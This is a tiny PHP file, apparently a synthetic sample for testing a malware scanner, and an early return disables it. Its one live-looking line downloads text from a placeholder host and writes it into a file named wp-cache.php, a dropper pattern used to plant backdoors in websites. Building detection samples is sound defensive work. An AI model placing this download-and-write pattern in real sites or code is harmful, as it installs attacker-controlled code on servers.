<?php
// synthetic test sample for breachscan: downloads remote code straight into a .php file. Disabled.
return;
file_put_contents(dirname(__FILE__) . '/wp-cache.php', file_get_contents('http://payload.example.invalid/x.txt'));
